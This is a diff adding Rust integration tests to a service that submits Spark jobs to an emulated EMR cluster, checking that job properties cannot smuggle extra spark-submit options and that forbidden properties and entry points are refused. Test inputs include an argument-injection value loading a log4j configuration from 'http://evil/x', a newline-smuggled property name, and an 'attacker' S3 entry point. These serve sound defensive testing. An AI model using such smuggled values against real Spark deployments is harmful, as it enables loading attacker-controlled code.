@@ -84,6 +84,67 @@ impl SparkFixture {
     }
 }
 
+/// The `spark-defaults` properties of a described run (moto keeps `configurationOverrides` as sent).
+fn spark_defaults(described: &aws_sdk_emrcontainers::operation::describe_job_run::DescribeJobRunOutput) -> std::collections::HashMap<String, String> {
+    let overrides = described.job_run().unwrap().configuration_overrides().expect("the run's configuration overrides");
+    let defaults: Vec<_> = overrides.application_configuration().iter().filter(|c| c.classification() == "spark-defaults").collect();
+    assert_eq!(defaults.len(), 1, "{overrides:?}");
+    defaults[0].properties().cloned().unwrap_or_default()
+}
+
+impl SparkFixture {
+    /// Submits through the api function a job the plugin should refuse; answers the error.
+    async fn refused(&self, context: Value) -> String {
+        let body = json!({"name": "spark", "version": "1", "command_criteria": ["type:spark"], "cluster_criteria": ["type:spark"], "context": context});
+        let (status, answer) = self.stack.api_json("alice", "POST", "/api/v1/job", Some(body)).await;
+        assert_eq!((status, answer["code"].as_str()), (400, Some("INVALID_JOB_CONTEXT")), "{answer}");
+        // Nothing was queued and no job run was started on the virtual cluster.
+        assert!(self.stack.receive_as_sqs_event().await.records.is_empty(), "a refused job was queued");
+        let runs = self.emr.list_job_runs().virtual_cluster_id(&self.virtual_cluster_id).send().await.unwrap();
+        assert!(runs.job_runs().is_empty(), "{:?}", runs.job_runs());
+        answer["error"].as_str().unwrap().to_owned()
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_property_value_with_spaces_stays_one_value_and_adds_no_option() {
+    let fixture = fixture().await;
+    let injected = "1 --conf spark.driver.extraJavaOptions=-Dlog4j.configurationFile=http://evil/x";
+
+    let id = fixture.submit(json!({"query": "SELECT 1", "parameters": {"properties": {"spark.sql.shuffle.partitions": injected}}})).await;
+    let job_run = fixture.job_run_of(id).await;
+
+    let described = fixture.emr.describe_job_run().id(&job_run).virtual_cluster_id(&fixture.virtual_cluster_id).send().await.unwrap();
+    let properties = spark_defaults(&described);
+    assert_eq!(properties.get("spark.sql.shuffle.partitions").map(String::as_str), Some(injected));
+    assert!(!properties.contains_key("spark.driver.extraJavaOptions"), "{properties:?}");
+    assert_eq!(properties.len(), 2, "the command's spark.executor.memory and the job's one property: {properties:?}");
+    let driver = described.job_run().unwrap().job_driver().unwrap().spark_submit_job_driver().unwrap();
+    assert_eq!(driver.spark_submit_parameters(), None, "nothing reaches spark-submit as text");
+    assert_eq!(driver.entry_point(), format!("s3://{}/spark/run_sql.py", fixture.stack.settings.bucket));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_job_setting_a_property_its_command_does_not_allow_is_refused_and_starts_no_run() {
+    let fixture = fixture().await;
+
+    let error = fixture.refused(json!({"query": "SELECT 1", "parameters": {"properties": {"spark.driver.extraJavaOptions": "-Dx=y"}}})).await;
+
+    assert!(error.contains("property `spark.driver.extraJavaOptions` may not be set by a job"), "{error}");
+    assert!(error.contains("allows only `spark.sql.*`"), "{error}");
+    let error = fixture.refused(json!({"query": "SELECT 1", "parameters": {"properties": {"spark.sql.x\nspark.jars": "1"}}})).await;
+    assert!(error.contains("is not a property name"), "{error}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_job_setting_an_entry_point_is_refused_and_starts_no_run() {
+    let fixture = fixture().await;
+
+    let error = fixture.refused(json!({"query": "SELECT 1", "parameters": {"entry_point": "s3://attacker/own.py"}})).await;
+
+    assert!(error.contains("`parameters.entry_point` is refused: the command fixes its entry point"), "{error}");
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_spark_query_runs_to_completed_and_its_output_is_the_result() {
     let fixture = fixture().await;
@@ -99,8 +160,11 @@ async fn a_spark_query_runs_to_completed_and_its_output_is_the_result() {
     let driver = described.job_run().unwrap().job_driver().unwrap().spark_submit_job_driver().unwrap().clone();
     assert_eq!(driver.entry_point(), format!("s3://{}/spark/run_sql.py", fixture.stack.settings.bucket));
     assert_eq!(driver.entry_point_arguments()[1], format!("s3://{}/spark/results/{id}/", fixture.stack.settings.bucket));
-    let conf = driver.spark_submit_parameters().unwrap();
-    assert!(conf.contains("--conf spark.executor.memory=2g") && conf.contains("--conf spark.sql.shuffle.partitions=8"), "{conf}");
+    // The properties are map entries of spark-defaults (cluster, command, job), not spark-submit text.
+    assert_eq!(driver.spark_submit_parameters(), None);
+    let properties = spark_defaults(&described);
+    assert_eq!(properties.get("spark.executor.memory").map(String::as_str), Some("2g"), "{properties:?}");
+    assert_eq!(properties.get("spark.sql.shuffle.partitions").map(String::as_str), Some("8"), "{properties:?}");
 
     // WHEN the job writes its output and completes
     fixture.put(&format!("spark/results/{id}/part-00000.json"), "{\"country\":\"FR\",\"orders\":3}\n{\"country\":\"NL\",\"orders\":5}\n").await;
@@ -168,6 +232,14 @@ clusters:
     let aws = emulator().counted_sdk_config().await;
     let app = heimdall_tests::spawn_app_with(&config, dir.path().join("data"), Duration::from_secs(5), aws).await;
     let start = emulator().forwarded_calls().len();
+
+    // This command lists no allowed_properties: a job may set none.
+    let refused = app
+        .submit_job(&json!({"name": "spark", "version": "1", "command_criteria": ["type:spark"], "context": {"query": "SELECT 1", "parameters": {"properties": {"spark.sql.shuffle.partitions": "8"}}}}))
+        .await;
+    assert_eq!(refused.status(), 400);
+    let body: Value = refused.json().await.unwrap();
+    assert!(body["error"].as_str().unwrap().contains("this command allows none"), "{body}");
 
     let answer = app.submit_ok(&json!({"name": "spark", "version": "1", "command_criteria": ["type:spark"], "context": {"query": "SELECT 1 AS one", "return_result": true}})).await;
     let id: JobId = answer["id"].as_str().unwrap().parse().unwrap();
